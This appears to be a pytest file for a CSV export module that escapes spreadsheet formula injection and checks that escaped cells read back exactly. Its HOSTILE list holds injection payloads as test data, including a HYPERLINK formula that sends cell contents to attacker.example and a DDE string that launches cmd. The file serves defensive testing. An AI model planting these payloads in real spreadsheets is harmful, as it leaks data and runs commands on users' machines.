"""CSV cells a spreadsheet shows as text: what starts a formula is escaped, and undone exactly."""

from __future__ import annotations

import pytest

from api.core.csv_cells import readable, written

HOSTILE = ['=HYPERLINK("http://attacker.example/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "\uff1d1+1", "'=1+1", "'", "''"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_start_a_formula_is_shown_as_text_and_read_back_exactly(text):
    cell = written(text)
    assert cell.startswith("'") and cell[1:] == text
    assert readable(cell) == text


@pytest.mark.parametrize("value", ["04A1B2C3", "PD94bWwg", "a=b", "", "it's", -5, -0.5, 12, None])
def test_anything_else_is_written_as_it_is(value):
    assert written(value) == value
    if isinstance(value, str):
        assert readable(value) == value


def test_a_cell_we_did_not_escape_is_read_as_it_is():
    assert readable("'x") == "'x" and readable("'") == "'"
